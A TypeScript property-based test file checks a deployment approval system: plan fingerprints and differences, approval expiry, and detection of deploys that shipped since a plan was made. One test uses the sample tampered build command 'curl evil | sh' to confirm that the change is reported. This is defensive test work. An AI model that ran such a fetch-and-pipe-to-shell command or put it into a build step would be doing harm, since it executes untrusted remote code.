// What an approval covers (docs/operations.md "What an approval covers"): the plan's parts
// and the state it starts from, as pure rules, property-tested.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { approvedAfterExpiry, isPastExpiry } from '../../src/domain/approval-expiry.ts';
import { planDifferences, planFingerprint, type PlanParts, sameChange } from '../../src/domain/approved-plan.ts';
import { basisChanges, planBasis } from '../../src/domain/plan-basis.ts';
import { emptyMarketReleases, type MarketReleases } from '../../src/domain/release-state.ts';
import { applyRecordRelease } from '../../src/domain/release-transitions.ts';

const word = fc.stringMatching(/^[a-z0-9][a-z0-9./-]{0,11}$/);
const hex40 = fc.stringMatching(/^[0-9a-f]{40}$/);
const parts: fc.Arbitrary<PlanParts> = fc.record({
  commit: hex40,
  packageSha256: fc.stringMatching(/^[0-9a-f]{64}$/),
  releaseId: word,
  hosts: fc.uniqueArray(word, { minLength: 1, maxLength: 5 }),
  hooks: fc.dictionary(fc.constantFrom('beforeDownload', 'afterDownload', 'beforeDeploy', 'afterDeploy'), word),
  build: fc.record({ command: fc.option(word, { nil: null }), output: fc.option(word, { nil: null }) }),
  path: word.map((w) => `/data/prod/${w}`),
  releasesDir: word.map((w) => `/data/codes/${w}`),
  rollbackTo: word,
  versions: fc.array(word, { maxLength: 3 }),
});

/** One part of a plan changed to something else. */
function mutate(plan: PlanParts, which: number, fresh: string): PlanParts {
  const other = (value: string | undefined) => (value === fresh ? `${fresh}x` : fresh);
  switch (which % 10) {
    case 0: return { ...plan, commit: other(plan.commit) };
    case 1: return { ...plan, packageSha256: other(plan.packageSha256) };
    case 2: return { ...plan, releaseId: other(plan.releaseId) };
    case 3: return { ...plan, hosts: [...plan.hosts, `${plan.hosts.join('')}-new`] };
    case 4: return { ...plan, hooks: { ...plan.hooks, afterDeploy: other(plan.hooks.afterDeploy) } };
    case 5: return { ...plan, build: { command: other(plan.build?.command ?? undefined), output: plan.build?.output ?? null } };
    case 6: return { ...plan, path: other(plan.path) };
    case 7: return { ...plan, releasesDir: other(plan.releasesDir) };
    case 8: return { ...plan, rollbackTo: other(plan.rollbackTo) };
    default: return { ...plan, versions: [...(plan.versions ?? []), `${fresh}-added`] };
  }
}

describe('planDifferences and planFingerprint', () => {
  it('for any plan, then it matches itself, and its fingerprint ignores the order of hosts and hooks', () => {
    fc.assert(fc.property(parts, (plan) => {
      expect(planDifferences(plan, structuredClone(plan))).toEqual([]);
      const reordered = { ...plan, hosts: [...plan.hosts].reverse(), hooks: Object.fromEntries(Object.entries(plan.hooks).reverse()) };
      expect(planFingerprint(reordered)).toBe(planFingerprint(plan));
      expect(planDifferences(plan, reordered)).toEqual([]);
    }));
  });

  it('for any one part changed, then the plan differs, the difference is named, and the fingerprint changes', () => {
    fc.assert(fc.property(parts, fc.nat(), word, (plan, which, fresh) => {
      const now = mutate(plan, which, fresh);
      const differences = planDifferences(plan, now);
      expect(differences).toHaveLength(1);
      expect(planFingerprint(now)).not.toBe(planFingerprint(plan));
    }));
  });

  it('when a part is changed, then the message says what it is now and what was approved', () => {
    const plan: PlanParts = { hosts: ['br-1'], hooks: {}, build: { command: 'npm run build', output: 'dist' }, path: '/data/prod/a', releasesDir: '/data/codes/a' };
    expect(planDifferences(plan, { ...plan, build: { command: 'curl evil | sh', output: 'dist' } })).toEqual(['the build command is now "curl evil | sh" (approved: "npm run build")']);
    expect(planDifferences(plan, { ...plan, releasesDir: '/tmp' })).toEqual(['releasesDir is now "/tmp" (approved: "/data/codes/a")']);
  });
});

describe('approval expiry', () => {
  it('for any decision time, then it is past expiry exactly when it is after expiresAt', () => {
    fc.assert(fc.property(fc.integer({ min: 0, max: 4e12 }), fc.integer({ min: -1e6, max: 1e6 }), (expires, delta) => {
      const expiresAt = new Date(expires).toISOString();
      const at = new Date(expires + delta).toISOString();
      expect(isPastExpiry({ expiresAt }, at)).toBe(delta > 0);
      const approval = { approvers: ['bob'], required: 1, expiresAt, approvedBy: ['bob'], decision: { decision: 'approved' as const, by: 'bob', at } };
      expect(approvedAfterExpiry(approval)).toBe(delta > 0);
    }));
  });
});

type Step = { kind: 'post' } | { kind: 'approve'; card: number } | { kind: 'other' };
const steps = fc.array(fc.oneof(fc.constant<Step>({ kind: 'post' }), fc.nat({ max: 20 }).map<Step>((card) => ({ kind: 'approve', card })), fc.constant<Step>({ kind: 'other' })), { maxLength: 40 });

describe('the state a plan starts from', () => {
  it('for any sequence of card posts, approvals and other deploys, then an approval ships only when nothing shipped since its card was posted', () => {
    fc.assert(fc.property(steps, (sequence) => {
      let state: MarketReleases = emptyMarketReleases('mala-core', 'brazil');
      let shipped = 0;
      let counter = 0;
      const cards: { id: string; basis: ReturnType<typeof planBasis>; shippedAtPost: number; done: boolean }[] = [];
      const ship = (deployId: string) => {
        const next = applyRecordRelease(state, { project: 'mala-core', market: 'brazil', release: 'production', version: `v${counter}`, commit: 'a'.repeat(40), deployId, by: 'alice', at: '2026-12-01T00:00:00.000Z', servers: ['10.0.0.1'] });
        if (!next.ok) throw new Error(next.refusal.message);
        state = next.value;
        shipped += 1;
      };
      for (const step of sequence) {
        counter += 1;
        if (step.kind === 'post') cards.push({ id: `d-card-${counter}`, basis: planBasis(['production'], state), shippedAtPost: shipped, done: false });
        else if (step.kind === 'other') ship(`d-other-${counter}`);
        else {
          const card = cards[step.card];
          if (!card || card.done) continue;
          card.done = true;
          const changes = basisChanges(card.basis, state);
          // the model: valid exactly when no deploy shipped between the post and now
          expect(changes.length === 0).toBe(shipped === card.shippedAtPost);
          if (changes.length === 0) {
            expect(state.releases.production?.current?.deployId ?? null).toBe(card.basis.production);
            ship(card.id);
          } else {
            expect(changes[0]).toMatch(/^production changed since the plan was made: it is (now v\d+ from d-|gone)/);
          }
        }
      }
    }), { numRuns: 300 });
  });

  it('when a retry compares with the state its deploy left, then its own lineage counts as unchanged and any other deploy does not', () => {
    fc.assert(fc.property(fc.uniqueArray(fc.stringMatching(/^d-[0-9]{4}$/), { minLength: 2, maxLength: 6 }), (ids) => {
      const [left, ...others] = ids;
      const record = (deployId: string) => {
        const next = applyRecordRelease(emptyMarketReleases('p', 'm'), { project: 'p', market: 'm', release: 'production', version: 'v1', commit: 'b'.repeat(40), deployId, by: 'u', at: '2026-12-01T00:00:00.000Z', servers: [] });
        return next.ok ? next.value : emptyMarketReleases('p', 'm');
      };
      const basis = { production: left! };
      expect(basisChanges(basis, record(left!), [others[0]!])).toEqual([]);
      expect(basisChanges(basis, record(others[0]!), [others[0]!])).toEqual([]);
      for (const other of others.slice(1)) expect(basisChanges(basis, record(other), [others[0]!])).toHaveLength(1);
    }));
  });
});

describe('sameChange', () => {
  it('two plans differing only in their build artefact make the same change; any other difference makes another', () => {
    const plan = fc.record({
      commit: fc.constantFrom('a'.repeat(40), 'b'.repeat(40)),
      packageSha256: fc.constantFrom('9f86d081', '0a0b0c0d'),
      releaseId: fc.string({ maxLength: 10 }),
      hosts: fc.subarray(['h1', 'h2', 'h3']),
      hooks: fc.dictionary(fc.constantFrom('beforeDeploy', 'afterDeploy'), fc.constantFrom('echo 1', 'echo 2')),
    });
    fc.assert(fc.property(plan, plan, (a, b) => {
      expect(sameChange(a, { ...a, packageSha256: b.packageSha256, releaseId: b.releaseId, hosts: [...a.hosts].reverse() })).toBe(true);
      const same = a.commit === b.commit && [...a.hosts].sort().join() === [...b.hosts].sort().join() && JSON.stringify(Object.entries(a.hooks).sort()) === JSON.stringify(Object.entries(b.hooks).sort());
      expect(sameChange(a, b)).toBe(same);
      expect(sameChange(b, a)).toBe(same);
    }));
  });
});
